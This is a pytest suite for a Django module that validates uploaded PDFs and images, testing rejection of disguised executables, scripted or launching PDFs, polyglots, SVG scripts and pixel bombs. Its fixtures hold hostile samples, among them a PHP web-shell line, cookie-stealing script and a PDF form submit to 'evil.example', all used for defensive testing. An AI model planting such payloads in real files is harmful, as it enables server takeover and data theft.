import random
import struct
import zlib
from io import BytesIO

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from modules.uploads import (
    ReferenceFileField,
    ReferenceFileFormField,
    UploadRejected,
    VisualImageField,
    VisualImageFormField,
    verify_image,
    verify_reference_file,
)

PAYLOAD = b"<?php system($_GET['cmd']); ?>"
HTML = b"<!DOCTYPE html><html><head><script>alert(document.cookie)</script></head><body></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'
)
SVG_WITHOUT_PROLOG = (
    b'<!-- logo -->\n<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'
)


@pytest.fixture(autouse=True)
def restore_pillow_limit():
    original = Image.MAX_IMAGE_PIXELS
    yield
    Image.MAX_IMAGE_PIXELS = original


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def rejection(verifier, file) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        verifier(file)
    return caught.value


def pdf_bytes() -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "PDF")
    return buffer.getvalue()


def pdf_with(change) -> bytes:
    """A one-page PDF written by pypdf after change(writer) has added something to it."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
    )


def set_open_action(value):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = value

    return change


def document_javascript(writer):
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(document.cookie)")))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def page_automatic_action(writer):
    opening = action("/JavaScript", JS=TextStringObject("this.submitForm('https://evil.example')"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): opening})


def embedded_file(writer):
    writer.add_attachment("payload.exe", elf_executable())


def elf_executable() -> bytes:
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1)
    return header + bytes(200)


def pe_executable() -> bytes:
    image = bytearray(512)
    image[0:2] = b"MZ"
    struct.pack_into("<I", image, 0x3C, 0x80)
    image[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", image, 0x84, 0x14C, 1)  # i386, one section
    struct.pack_into("<HH", image, 0x94, 0xE0, 0x0102)  # optional header size, characteristics
    struct.pack_into("<H", image, 0x98, 0x10B)  # PE32 magic
    return bytes(image)


def image_bytes(image_format: str, size=(32, 24), mode="RGB", **save_options) -> bytes:
    noise = random.Random(0).randbytes(size[0] * size[1] * len(mode))
    buffer = BytesIO()
    Image.frombytes(mode, size, noise).save(buffer, image_format, **save_options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A few dozen bytes whose header claims a huge canvas; decoding it would need gigabytes."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(bytes(16)))
        + png_chunk(b"IEND", b"")
    )


def decoded(file) -> Image.Image:
    file.seek(0)
    image = Image.open(BytesIO(file.read()))
    image.load()
    return image


# Reference PDFs


def test_valid_pdf_is_accepted_rewound_and_named_pdf():
    content = pdf_bytes()
    source = upload("Q3 price list.PDF", content, "application/pdf")
    source.read()

    result = verify_reference_file(source)

    assert result.name == "Q3_price_list.pdf"
    assert result.read() == content


def test_pdf_uploaded_under_another_extension_gets_a_pdf_name():
    result = verify_reference_file(upload("../../brochure.final.docx", pdf_bytes()))

    assert result.name == "brochure_final.pdf"


@pytest.mark.parametrize(
    ("content", "mime"),
    [
        (elf_executable(), "application/x-executable"),
        (pe_executable(), "application/vnd.microsoft.portable-executable"),
    ],
)
def test_executable_renamed_pdf_is_refused_naming_what_it_is(content, mime):
    error = rejection(verify_reference_file, upload("invoice.pdf", content, "application/pdf"))

    assert error.code == "not_pdf"
    assert error.messages == [
        f"The file is an executable ({mime}), not a PDF. Upload the reference as a PDF."
    ]


def test_html_renamed_pdf_is_refused():
    error = rejection(verify_reference_file, upload("terms.pdf", HTML, "application/pdf"))

    assert "an HTML page (text/html), not a PDF" in error.messages[0]


ACTIVE_PDFS = {
    "open action running JavaScript": (
        pdf_with(set_open_action(action("/JavaScript", JS=TextStringObject("app.alert(1)")))),
        ["JavaScript (/JS)", "JavaScript (/JavaScript)", "an action run on opening (/OpenAction)"],
    ),
    "document-level JavaScript": (
        pdf_with(document_javascript),
        ["JavaScript (/JavaScript)", "JavaScript (/JS)"],
    ),
    "launch action": (
        pdf_with(set_open_action(action("/Launch", F=TextStringObject("cmd.exe")))),
        ["a program launch (/Launch)", "an action run on opening (/OpenAction)"],
    ),
    "page automatic action": (
        pdf_with(page_automatic_action),
        ["automatic actions (/AA)", "JavaScript (/JS)", "JavaScript (/JavaScript)"],
    ),
    "embedded file": (
        pdf_with(embedded_file),
        ["embedded files (/EmbeddedFiles)", "an embedded file (/EmbeddedFile)"],
    ),
    # Names may be written with #xx escapes; "/J#61vaScript" is "/JavaScript" to a PDF reader.
    "hex-escaped action name": (
        pdf_with(lambda writer: None).replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
        ),
        ["JavaScript (/JS)", "JavaScript (/JavaScript)", "an action run on opening (/OpenAction)"],
    ),
    "PDF/HTML polyglot": (
        pdf_bytes() + b"<html><body><script>fetch('/admin/')</script></body></html>",
        ["HTML markup (a PDF/HTML polyglot)"],
    ),
    "HTML hidden in a PDF comment": (
        pdf_bytes().replace(b"\n", b"\n%<!DOCTYPE html><script>alert(1)</script>\n", 1),
        ["HTML markup (a PDF/HTML polyglot)"],
    ),
}


@pytest.mark.parametrize("name", ACTIVE_PDFS)
def test_pdf_with_active_content_is_refused_naming_what_was_found(name):
    content, expected = ACTIVE_PDFS[name]

    error = rejection(verify_reference_file, upload("study.pdf", content, "application/pdf"))

    assert error.code == "pdf_active_content"
    message = error.messages[0]
    assert message.startswith("The PDF contains active content: ")
    for finding in expected:
        assert finding in message
    assert "print or export it to a new PDF without them" in message


def test_pdf_with_links_and_an_open_at_page_destination_is_accepted():
    def links_and_destination(writer):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )
        writer.add_uri(0, "https://doi.org/10.1056/NEJMoa2500001", [0, 0, 100, 20])
        writer.pages[0][NameObject("/Rotate")] = NumberObject(0)

    content = pdf_with(links_and_destination)

    assert verify_reference_file(upload("trial.pdf", content)).read() == content


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128"])
def test_password_protected_pdf_is_refused_because_it_cannot_be_checked(algorithm):
    content = pdf_with(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))
    if algorithm == "AES-128":
        # pypdf writes AES only with the optional cryptography package; a reader sees the dictionary.
        content = content.replace(
            b"/V 2\n/R 3",
            b"/V 4\n/R 4 /CF << /StdCF << /CFM /AESV2 /Length 16 >> >> /StmF /StdCF /StrF /StdCF",
        )
        assert b"/AESV2" in content

    error = rejection(verify_reference_file, upload("locked.pdf", content))

    assert error.code == "pdf_encrypted"
    assert error.messages == [
        "The PDF is encrypted or password-protected, so it cannot be checked. "
        "Upload a copy without a password."
    ]


def test_pdf_that_cannot_be_parsed_is_refused():
    error = rejection(verify_reference_file, upload("broken.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4))

    assert error.code == "pdf_corrupt"
    assert "The PDF is damaged and cannot be read" in error.messages[0]


def test_empty_reference_is_refused():
    error = rejection(verify_reference_file, upload("empty.pdf", b"", "application/pdf"))

    assert error.code == "empty"
    assert "The file is empty" in error.messages[0]


def test_oversized_reference_is_refused(settings):
    content = pdf_bytes()
    settings.MAX_REFERENCE_UPLOAD_BYTES = len(content) - 1

    error = rejection(verify_reference_file, upload("big.pdf", content, "application/pdf"))

    assert error.code == "too_large"
    assert f"The file is {len(content) / 1024:.1f} KB; the limit for reference PDFs is" in error.messages[0]


# Visuals: refusals


def test_html_renamed_png_is_refused():
    error = rejection(verify_image, upload("banner.png", HTML, "image/png"))

    assert error.code == "not_image"
    assert error.messages == [
        "The file is an HTML page (text/html), not a PNG, JPEG, WebP or GIF image. "
        "Upload the visual in one of those formats."
    ]


def test_pdf_renamed_jpg_is_refused():
    error = rejection(verify_image, upload("photo.jpg", pdf_bytes(), "image/jpeg"))

    assert "a PDF (application/pdf), not a PNG, JPEG, WebP or GIF image" in error.messages[0]


@pytest.mark.parametrize("content", [SVG, SVG_WITHOUT_PROLOG])
def test_svg_renamed_png_is_refused_because_of_scripts(content):
    error = rejection(verify_image, upload("logo.png", content, "image/png"))

    assert error.code == "svg"
    assert "SVG images are not accepted because they can carry scripts" in error.messages[0]


@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "GIF", "WEBP"])
def test_truncated_image_is_refused(image_format):
    content = image_bytes(image_format, size=(64, 64))

    error = rejection(verify_image, upload("cut.img", content[: len(content) // 2]))

    assert error.code == "corrupt"
    assert "damaged or incomplete" in error.messages[0]


def test_png_with_a_bad_checksum_is_refused():
    content = bytearray(image_bytes("PNG"))
    content[-20] ^= 0xFF  # inside the last IDAT chunk's data, so its CRC no longer matches

    error = rejection(verify_image, upload("bad.png", bytes(content)))

    assert error.code == "corrupt"


def test_huge_declared_dimensions_are_refused_without_decoding():
    content = png_declaring(50_000, 50_000)
    assert len(content) < 100

    error = rejection(verify_image, upload("bomb.png", content))

    assert error.code == "too_many_pixels"
    assert "the limit is 10,000 pixels per side and 40,000,000 pixels in total" in error.messages[0]


def test_side_longer_than_the_limit_is_refused_even_with_few_pixels():
    error = rejection(verify_image, upload("strip.png", png_declaring(20_000, 1)))

    assert error.code == "too_many_pixels"
    assert error.messages[0].startswith("The image is 20000 × 1 pixels;")


def test_pillow_bomb_warning_is_treated_as_refusal(settings):
    # 1,500 pixels: above the limit but under Pillow's 2x "error" threshold, so only the warning fires.
    settings.MAX_IMAGE_PIXELS = 1_000
    content = image_bytes("PNG", size=(50, 30))

    error = rejection(verify_image, upload("wide.png", content))

    assert error.code == "too_many_pixels"
    assert "1,000 pixels in total" in error.messages[0]
    assert Image.MAX_IMAGE_PIXELS == 1_000


def test_empty_image_is_refused():
    error = rejection(verify_image, upload("empty.png", b""))

    assert error.code == "empty"


def test_oversized_image_is_refused(settings):
    settings.MAX_IMAGE_UPLOAD_BYTES = 512
    content = image_bytes("PNG", size=(64, 64))
    assert len(content) > 512

    error = rejection(verify_image, upload("big.png", content))

    assert error.code == "too_large"
    assert "the limit for images is 512 bytes" in error.messages[0]


def test_png_signature_followed_by_garbage_is_refused():
    error = rejection(verify_image, upload("fake.png", b"\x89PNG\r\n\x1a\n" + PAYLOAD * 10))

    assert error.code == "not_image"
    assert "(application/octet-stream)" in error.messages[0]


def test_png_whose_pixel_data_is_missing_is_refused():
    # A genuine PNG header (libmagic says image/png) with far too little pixel data for 64x64.
    error = rejection(verify_image, upload("hollow.png", png_declaring(64, 64)))

    assert error.code == "corrupt"


# Visuals: accepted and re-encoded


@pytest.mark.parametrize(
    ("image_format", "extension"), [("PNG", "png"), ("JPEG", "jpg"), ("WEBP", "webp"), ("GIF", "gif")]
)
def test_valid_image_is_accepted_and_reencoded_in_its_own_format(image_format, extension):
    content = image_bytes(image_format, size=(40, 30))

    result = verify_image(upload("Hero Banner.bin", content))

    assert result.name == f"Hero_Banner.{extension}"
    output = decoded(result)
    assert output.format == image_format
    assert output.size == (40, 30)


def test_camera_mpo_is_accepted_as_its_first_jpeg_frame():
    left, right = Image.new("RGB", (40, 30), "red"), Image.new("RGB", (40, 30), "blue")
    buffer = BytesIO()
    left.save(buffer, "MPO", save_all=True, append_images=[right])
    assert Image.open(BytesIO(buffer.getvalue())).format == "MPO"

    result = verify_image(upload("DSCF0001.JPG", buffer.getvalue()))

    assert result.name == "DSCF0001.jpg"
    output = decoded(result)
    assert output.format == "JPEG"
    assert getattr(output, "n_frames", 1) == 1
    assert output.size == (40, 30)
    red, green, blue = output.getpixel((20, 15))
    assert red > 200 and blue < 60


def test_name_takes_the_extension_of_the_real_type():
    result = verify_image(upload("../photo.png", image_bytes("JPEG")))

    assert result.name == "photo.jpg"


def test_jpeg_exif_is_stripped_and_orientation_applied():
    exif = Image.Exif()
    exif[0x010F] = "SpyCam Industries"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x8825] = {0x0002: (51.0, 30.0, 0.0)}  # GPS latitude
    content = image_bytes("JPEG", size=(40, 20), exif=exif.tobytes())
    assert b"SpyCam Industries" in content
    assert decoded(upload("x.jpg", content)).getexif()

    result = verify_image(upload("holiday.jpg", content))

    output_bytes = result.read()
    assert b"SpyCam Industries" not in output_bytes
    assert b"Exif" not in output_bytes
    output = decoded(result)
    assert output.format == "JPEG"
    assert not output.getexif()
    assert "exif" not in output.info
    assert output.size == (20, 40)


def test_png_text_chunks_are_stripped():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "internal roadmap: secret")
    content = image_bytes("PNG", pnginfo=info)
    assert b"internal roadmap" in content

    output_bytes = verify_image(upload("chart.png", content)).read()

    assert b"internal roadmap" not in output_bytes


@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "WEBP", "GIF"])
def test_bytes_appended_after_the_image_are_gone(image_format):
    content = image_bytes(image_format) + PAYLOAD

    result = verify_image(upload("polyglot.img", content))

    output_bytes = result.read()
    assert PAYLOAD not in output_bytes
    assert b"system(" not in output_bytes
    assert decoded(result).format == image_format


def test_png_transparency_survives():
    buffer = BytesIO()
    Image.new("RGBA", (10, 10), (255, 0, 0, 0)).save(buffer, "PNG")

    output = decoded(verify_image(upload("clear.png", buffer.getvalue())))

    assert output.mode == "RGBA"
    assert output.getpixel((5, 5))[3] == 0


def test_animated_gif_keeps_its_frames_and_loses_its_comment():
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("red", "green", "blue")]
    buffer = BytesIO()
    frames[0].save(
        buffer, "GIF", save_all=True, append_images=frames[1:], duration=120, loop=0, comment=b"tracking-id"
    )
    assert b"tracking-id" in buffer.getvalue()
    assert Image.open(BytesIO(buffer.getvalue())).n_frames == 3

    result = verify_image(upload("spinner.gif", buffer.getvalue()))

    output_bytes = result.read()
    assert b"tracking-id" not in output_bytes
    output = Image.open(BytesIO(output_bytes))
    assert output.format == "GIF"
    assert output.n_frames == 3
    assert output.info["duration"] == 120
    assert output.info["loop"] == 0
    output.seek(2)
    assert output.convert("RGB").getpixel((8, 8)) == (0, 0, 255)


def test_gif_animation_beyond_the_pixel_budget_keeps_only_the_first_frame(settings):
    settings.MAX_IMAGE_PIXELS = 600  # one 16x16 frame fits, three do not
    frames = [Image.new("RGB", (16, 16), colour) for colour in ("red", "green", "blue")]
    buffer = BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    assert Image.open(BytesIO(buffer.getvalue())).n_frames == 3

    output = decoded(verify_image(upload("spinner.gif", buffer.getvalue())))

    assert getattr(output, "n_frames", 1) == 1


def test_cmyk_and_palette_images_are_reencoded():
    jpeg = decoded(verify_image(upload("print.jpg", image_bytes("JPEG", mode="CMYK"))))
    webp = decoded(verify_image(upload("icon.webp", image_bytes("WEBP", mode="RGBA"))))

    assert jpeg.format == "JPEG"
    assert webp.format == "WEBP"
    assert webp.mode == "RGBA"


# Form fields


def test_reference_form_field_raises_validation_error_with_the_message():
    with pytest.raises(ValidationError) as caught:
        ReferenceFileFormField().clean(upload("invoice.pdf", elf_executable()))

    assert caught.value.messages == [
        "The file is an executable (application/x-executable), not a PDF. Upload the reference as a PDF."
    ]


def test_reference_form_field_returns_the_verified_file():
    cleaned = ReferenceFileFormField().clean(upload("Spec sheet.pdf", pdf_bytes()))

    assert cleaned.name == "Spec_sheet.pdf"
    assert cleaned.read(5) == b"%PDF-"


def test_visual_form_field_raises_validation_error_with_the_message():
    with pytest.raises(ValidationError) as caught:
        VisualImageFormField().clean(upload("logo.png", SVG))

    assert "SVG images are not accepted because they can carry scripts" in caught.value.messages[0]


def test_visual_form_field_returns_the_reencoded_file():
    cleaned = VisualImageFormField().clean(upload("Team.JPG", image_bytes("PNG") + PAYLOAD))

    assert cleaned.name == "Team.png"
    assert PAYLOAD not in cleaned.read()


@pytest.mark.parametrize("field_class", [ReferenceFileFormField, VisualImageFormField])
def test_form_field_keeps_the_existing_file_when_nothing_new_is_uploaded(field_class):
    existing = object()

    assert field_class(required=False).clean(None, existing) is existing
    assert field_class(required=False).clean(False, existing) is False


def test_form_reports_the_rejection_on_the_field():
    class VisualForm(forms.Form):
        visual = VisualImageFormField()

    form = VisualForm(data={}, files={"visual": upload("banner.png", HTML)})

    assert not form.is_valid()
    assert form.errors["visual"] == [
        "The file is an HTML page (text/html), not a PNG, JPEG, WebP or GIF image. "
        "Upload the visual in one of those formats."
    ]


@pytest.mark.parametrize(
    ("field_class", "content", "extension"),
    [(ReferenceFileFormField, pdf_bytes(), "pdf"), (VisualImageFormField, image_bytes("PNG"), "png")],
)
def test_a_250_character_file_name_is_shortened_not_refused(field_class, content, extension):
    long_name = "Supplementary appendix " + "x" * 223 + ".pdf"
    assert len(long_name) == 250

    cleaned = field_class(max_length=100).clean(upload(long_name, content))

    assert cleaned.name == f"Supplementary_appendix_{'x' * 57}.{extension}"


def test_form_field_widgets_advertise_accepted_types():
    assert ReferenceFileFormField().widget.attrs["accept"] == "application/pdf,.pdf"
    assert VisualImageFormField().widget.attrs["accept"] == "image/png,image/jpeg,image/webp,image/gif"


# Model fields


@pytest.mark.parametrize(
    ("model_field_class", "form_field_class"),
    [(ReferenceFileField, ReferenceFileFormField), (VisualImageField, VisualImageFormField)],
)
def test_model_field_defaults_to_the_verifying_form_field(model_field_class, form_field_class):
    field = model_field_class(upload_to="uploads/", blank=True)

    assert isinstance(field.formfield(), form_field_class)
    assert type(field.formfield(form_class=forms.FileField)) is forms.FileField


@pytest.mark.parametrize("model_field_class", [ReferenceFileField, VisualImageField])
def test_model_field_deconstructs_for_stable_migrations(model_field_class):
    field = model_field_class(upload_to="uploads/", max_length=200)

    _, path, args, kwargs = field.deconstruct()

    assert path == f"modules.uploads.{model_field_class.__name__}"
    assert kwargs == {"upload_to": "uploads/", "max_length": 200}
    rebuilt = model_field_class(*args, **kwargs)
    assert rebuilt.deconstruct()[1:] == (path, args, kwargs)


@pytest.mark.parametrize("image_format", ["PNG", "JPEG", "GIF"])
def test_truncated_images_stay_refused_after_weasyprint_is_loaded(image_format):
    """WeasyPrint switches on Pillow's LOAD_TRUNCATED_IMAGES globally when imported (review PDFs)."""
    import weasyprint  # noqa: F401
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES  # what WeasyPrint does to the whole process
    content = image_bytes(image_format, size=(64, 64))
    error = rejection(verify_image, upload("cut.img", content[: len(content) // 2]))
    assert error.code == "corrupt"
    assert ImageFile.LOAD_TRUNCATED_IMAGES  # restored for WeasyPrint
